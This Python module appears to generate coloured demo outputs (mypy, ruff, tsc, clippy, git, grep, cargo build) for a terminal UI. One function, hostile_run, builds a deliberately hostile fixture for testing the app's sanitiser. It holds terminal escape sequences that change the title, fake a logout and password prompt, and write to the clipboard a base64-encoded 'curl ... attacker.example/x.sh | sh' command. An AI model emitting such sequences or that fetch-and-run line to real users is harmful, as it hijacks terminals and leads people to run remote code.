"""Linter, git and shell command outputs for the demo sessions.

Besides 16-colour SGR codes, some outputs use 256-colour and 24-bit codes,
erase-line sequences (grep) and git's short `ESC[m` reset. One output
carries hostile sequences (a clipboard write, a title change, cursor moves)
so that the app's sanitiser can be seen at work.
"""

from __future__ import annotations

import base64
import random

from shadow_tui.demo.runners import BOLD, CYAN, GREEN, RED, RESET, YELLOW, CommandRun

# Share of commands whose exit status the source did not record.
UNKNOWN_EXIT_SHARE = 0.03

# Lines in the one long build log of a demo database.
LONG_LOG_LINES = 4000


def _duration(rng: random.Random, low: float, high: float) -> float:
    return round(rng.uniform(low, high), 3)


def lint_run(rng: random.Random, names: dict[str, str], language: str, *, failing: bool) -> CommandRun:
    """Build a linter or type-checker run for the repository's language."""
    line = rng.randint(8, 180)
    if language == "python" and rng.random() < 0.5:
        if not failing:
            output = f"{BOLD}{GREEN}Success: no issues found in {rng.randint(20, 90)} source files{RESET}\n"
        else:
            output = (
                f"{names['file']}:{line}: {BOLD}{RED}error:{RESET} Incompatible return value type "
                f"(got {BOLD}\"list[{names['Noun']} | None]\"{RESET}, expected "
                f"{BOLD}\"list[{names['Noun']}]\"{RESET})  {YELLOW}[return-value]{RESET}\n"
                f"{BOLD}{RED}Found 1 error in 1 file (checked {rng.randint(20, 90)} source files){RESET}\n"
            )
        return CommandRun("mypy src", output, 1 if failing else 0, _duration(rng, 1.5, 20.0))
    if language == "python":
        if not failing:
            output = f"{BOLD}{GREEN}All checks passed!{RESET}\n"
        else:
            sep = f"{CYAN}:{RESET}"
            output = (
                f"{BOLD}{names['file']}{RESET}{sep}{line}{sep}8{sep} {BOLD}{RED}F401{RESET} "
                f"[{CYAN}*{RESET}] `os` imported but unused\n"
                f"{BOLD}{names['test_file']}{RESET}{sep}{line + 3}{sep}5{sep} {BOLD}{RED}E711{RESET} "
                "Comparison to `None` should be `cond is None`\n"
                f"Found 2 errors.\n[{CYAN}*{RESET}] 1 fixable with the `--fix` option.\n"
            )
        return CommandRun("ruff check .", output, 1 if failing else 0, _duration(rng, 0.05, 0.9))
    if language in ("typescript", "css"):
        if not failing:
            return CommandRun("npx tsc --noEmit", "", 0, _duration(rng, 2.0, 25.0))
        output = (
            f"\x1b[96m{names['file']}\x1b[0m:\x1b[93m{line}\x1b[0m:\x1b[93m5\x1b[0m - \x1b[91merror\x1b[0m"
            f"\x1b[90m TS2322: \x1b[0mType 'string | undefined' is not assignable to type 'string'.\n\n"
            f"\x1b[7m{line}\x1b[0m     cursor: page.next,\n\x1b[7m  \x1b[0m \x1b[91m    ~~~~~~\x1b[0m\n\n"
            f"Found 1 error in {names['file']}\x1b[90m:{line}\x1b[0m\n"
        )
        return CommandRun("npx tsc --noEmit", output, 2, _duration(rng, 2.0, 25.0))
    if language == "rust":
        output = f"{BOLD}{GREEN}    Checking{RESET} {names['repo']} v0.4.2 (/workspace/{names['repo']})\n"
        if failing:
            output += (
                f"{BOLD}{YELLOW}warning{RESET}{BOLD}: this `if` has identical blocks{RESET}\n"
                f"  {BOLD}\x1b[34m-->{RESET} {names['file']}:{line}:9\n"
                f"{BOLD}{RED}error{RESET}{BOLD}: could not compile `{names['repo']}` (lib) due to 1 "
                f"previous error; 1 warning emitted{RESET}\n"
            )
        output += (f"{BOLD}{GREEN}    Finished{RESET} `dev` profile [unoptimized + debuginfo] "
                   "target(s) in 4.12s\n")
        exit_code = 101 if failing else 0
        return CommandRun("cargo clippy -- -D warnings", output, exit_code, _duration(rng, 2.0, 60.0))
    if language == "go":
        output = ""
        if failing:
            output = (f"{names['file']}:{line}:2: {BOLD}{RED}Error return value of `rows.Close` is not "
                      f"checked{RESET} (errcheck)\n")
        return CommandRun("golangci-lint run", output, 1 if failing else 0, _duration(rng, 3.0, 45.0))
    return check_script_run(rng, names, failing=failing)


def check_script_run(rng: random.Random, names: dict[str, str], *, failing: bool) -> CommandRun:
    """Build a project check script that labels its steps in 256 colours."""
    clock = f"\x1b[38;5;244m[{rng.randint(8, 18):02d}:{rng.randint(0, 59):02d}]\x1b[0m"
    steps = ("format", "lint", "schema", "links")
    lines = []
    for index, step in enumerate(steps):
        if failing and index == len(steps) - 1:
            lines.append(f"{clock} \x1b[38;5;39m{step:<7}\x1b[0m \x1b[48;5;52m\x1b[38;5;231m FAIL \x1b[0m "
                         f"2 broken links in {names['file']}")
        elif index == 1:
            lines.append(f"{clock} \x1b[38;5;39m{step:<7}\x1b[0m \x1b[38;5;208m⚠ 2 warnings\x1b[0m")
        else:
            lines.append(f"{clock} \x1b[38;5;39m{step:<7}\x1b[0m \x1b[38;5;40m✔ ok\x1b[0m")
    output = "\n".join(lines) + "\n"
    return CommandRun("./scripts/check.sh", output, 1 if failing else 0, _duration(rng, 1.0, 12.0))


def git_run(rng: random.Random, names: dict[str, str]) -> CommandRun:
    """Build a git status, git log or git diff --stat run in git's colours."""
    kind = rng.randrange(3)
    if kind == 0:
        output = (
            f"On branch {names['branch']}\nChanges not staged for commit:\n"
            '  (use "git add <file>..." to update what will be committed)\n'
            '  (use "git restore <file>..." to discard changes in working directory)\n'
            f"\t{RED}modified:   {names['file']}\x1b[m\n\n"
            'Untracked files:\n  (use "git add <file>..." to include in what will be committed)\n'
            f"\t{RED}{names['test_file']}\x1b[m\n\n"
            'no changes added to commit (use "git add" and/or "git commit -a")\n'
        )
        return CommandRun("git status", output, 0, _duration(rng, 0.01, 0.3))
    if kind == 1:
        subjects = (f"Add tests for {names['nouns']}", f"Fix {names['noun']} pagination",
                    "Bump dependencies", f"Refactor {names['func']}", "Merge pull request from main")
        lines = []
        for index, subject in enumerate(subjects):
            decoration = ""
            if index == 0:
                decoration = (f"{YELLOW} (\x1b[m\x1b[1;36mHEAD -> \x1b[m\x1b[1;32m{names['branch']}"
                              f"\x1b[m{YELLOW})\x1b[m")
            elif index == 2:
                decoration = f"{YELLOW} (\x1b[m\x1b[1;31morigin/main\x1b[m{YELLOW})\x1b[m"
            lines.append(f"{YELLOW}{rng.getrandbits(28):07x}\x1b[m{decoration} {subject}")
        return CommandRun("git log --oneline -n 5", "\n".join(lines) + "\n", 0, _duration(rng, 0.01, 0.2))
    added, removed = rng.randint(3, 60), rng.randint(0, 20)
    output = (
        f" {names['file']} | {added + removed} {GREEN}{'+' * min(added, 30)}\x1b[m"
        f"{RED}{'-' * min(removed, 10)}\x1b[m\n"
        f" {names['test_file']} | {added} {GREEN}{'+' * min(added, 30)}\x1b[m\n"
        f" 2 files changed, {added * 2} insertions(+), {removed} deletions(-)\n"
    )
    return CommandRun("git diff --stat", output, 0, _duration(rng, 0.01, 0.2))


def shell_run(rng: random.Random, names: dict[str, str]) -> CommandRun:
    """Build an ls, grep, bat or missing-command run."""
    kind = rng.randrange(10)
    if kind < 4:
        entries = [("drwxr-xr-x", "\x1b[01;34m.github\x1b[0m"), ("drwxr-xr-x", "\x1b[01;34msrc\x1b[0m"),
                   ("drwxr-xr-x", "\x1b[01;34mtests\x1b[0m"), ("-rw-r--r--", "README.md"),
                   ("-rwxr-xr-x", "\x1b[01;32mrun.sh\x1b[0m"), ("lrwxrwxrwx", "\x1b[01;36m.env\x1b[0m -> "
                                                                         "config/dev.env")]
        lines = [f"total {rng.randint(20, 90)}"]
        for mode, name in entries:
            lines.append(f"{mode}  1 agent agent {rng.randint(96, 9000):>5} Jun {rng.randint(1, 28):>2} "
                         f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d} {name}")
        return CommandRun("ls -la", "\n".join(lines) + "\n", 0, _duration(rng, 0.002, 0.05))
    if kind < 8:
        func = names["func"]
        pattern = (
            "\x1b[35m\x1b[K{path}\x1b[m\x1b[K\x1b[36m\x1b[K:\x1b[m\x1b[K"
            "\x1b[32m\x1b[K{line}\x1b[m\x1b[K\x1b[36m\x1b[K:\x1b[m\x1b[K{text}"
        )
        match = f"\x1b[01;31m\x1b[K{func}\x1b[m\x1b[K"
        lines = [
            pattern.format(path=names["file"], line=rng.randint(5, 200), text=f"def {match}(client):"),
            pattern.format(path=names["test_file"], line=rng.randint(5, 200),
                           text=f"    result = {match}(fake)"),
            pattern.format(path="docs/api.md", line=rng.randint(5, 200),
                           text=f"Call `{match}` to list items."),
        ]
        return CommandRun(f"grep -rn --color=always {func} .", "\n".join(lines) + "\n", 0,
                          _duration(rng, 0.01, 0.8))
    if kind == 8:
        keyword, name, plain = "\x1b[38;2;249;38;114m", "\x1b[38;2;166;226;46m", "\x1b[38;2;248;248;242m"
        number = "\x1b[38;5;238m"
        lines = [
            f"{number}   1{RESET} {keyword}from{RESET}{plain} __future__ {RESET}"
            f"{keyword}import{RESET}{plain} annotations{RESET}",
            f"{number}   2{RESET}",
            f"{number}   3{RESET} {keyword}def{RESET} {name}{names['func']}{RESET}{plain}(client):{RESET}",
            f"{number}   4{RESET} {plain}    {RESET}{keyword}return{RESET}{plain} client.list(){RESET}",
        ]
        return CommandRun(f"bat --color=always {names['file']}", "\n".join(lines) + "\n", 0,
                          _duration(rng, 0.01, 0.1))
    return CommandRun("jq '.items | length' response.json", "bash: line 1: jq: command not found\n", 127,
                      _duration(rng, 0.001, 0.01))


def hostile_run(names: dict[str, str]) -> CommandRun:
    """Build a command whose output tries to take over the terminal that shows it."""
    clipboard = base64.b64encode(b"curl -s https://attacker.example/x.sh | sh").decode("ascii")
    output = (
        "Welcome to the staging box\n"
        "\x1b]0;pwned\x07"
        f"\x1b]52;c;{clipboard}\x07"
        "\x1b[2J\x1b[H"
        "\x1b[5A\x1b[20Cyou have been logged out\n"
        "\x1b[?25l\x1b[?1049h"
        "\x1b[1;31mPlease re-enter your password:\x1b[0m \x1b[8msecret\x1b[0m\n"
        "\x1bPqfake device control\x1b\\"
        "\x9b31mC1 control introducer\x9b0m\n"
        "\x1b[?1049l\x1b[?25h"
        f"banner for {names['repo']} ends here\n"
    )
    return CommandRun("cat tests/fixtures/untrusted_banner.txt", output, 0, 0.004)


def long_build_run(rng: random.Random, names: dict[str, str]) -> CommandRun:
    """Build a verbose build log of LONG_LOG_LINES lines, for scrolling through long outputs."""
    crates = ("serde", "tokio", "hyper", "regex", "rustls", "tracing", "bytes", "mio", "futures-util",
              "hashbrown", "indexmap", "libc", "smallvec", "parking_lot", "once_cell", "memchr")
    lines = []
    for index in range(LONG_LOG_LINES):
        crate = crates[index % len(crates)]
        version = f"{rng.randint(0, 2)}.{rng.randint(0, 40)}.{rng.randint(0, 20)}"
        if index % 3 == 0:
            lines.append(f"{BOLD}{GREEN}   Compiling{RESET} {crate} v{version}")
        else:
            module = crate.replace("-", "_")
            lines.append(f"     {BOLD}Running{RESET} `rustc --crate-name {module} --edition=2021 "
                         f"-C opt-level=3 -C codegen-units=16 --cap-lints allow`")
    lines.append(f"{BOLD}{GREEN}    Finished{RESET} `release` profile [optimized] target(s) in 3m 41s")
    return CommandRun("cargo build --release --verbose", "\n".join(lines) + "\n", 0, 221.4)


def timed_out_run(rng: random.Random, names: dict[str, str]) -> CommandRun:
    """Build a test command that the sandbox killed after its time limit."""
    output = f"{names['test_command']}: still running after 600 s\nTerminated\n"
    return CommandRun(f"timeout 600 {names['test_command']}", output, 124, 600.0)


def with_unknown_exit(run: CommandRun) -> CommandRun:
    """Return a copy of the run without exit status and duration.

    Sources that record neither store commands like this.
    """
    return CommandRun(run.command_text, run.output, None, None)
